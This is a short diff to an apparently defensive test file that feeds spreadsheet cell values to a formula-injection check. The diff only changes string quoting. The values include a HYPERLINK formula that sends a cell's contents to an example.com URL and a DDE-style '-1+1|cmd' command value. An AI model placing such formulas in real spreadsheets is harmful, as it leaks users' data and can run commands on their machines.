@@ -6,7 +6,7 @@ describe("cells of tables", () => {
   const texts = [
     "aoki@example.com",
     "花子",
-    "=HYPERLINK(\"https://example.com/?\"&B3)",
+    '=HYPERLINK("https://example.com/?"&B3)',
     "+81 90 1234 5678",
     "-1+1|cmd",
     "@SUM(1)",
